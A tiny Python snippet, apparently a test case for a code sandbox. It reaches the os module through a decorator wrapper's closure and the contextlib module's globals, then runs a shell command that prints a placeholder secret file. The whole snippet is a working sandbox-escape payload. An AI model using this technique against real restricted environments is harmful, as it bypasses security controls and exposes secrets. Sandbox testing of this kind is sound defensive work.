# A decorator's wrapper keeps the wrapped function in its closure.
# effect: run
import contextlib
wrapper = contextlib.contextmanager(contextlib.suppress.__exit__)
wrapper.__closure__[0].cell_contents.__globals__["os"].system("cat @SECRET@")
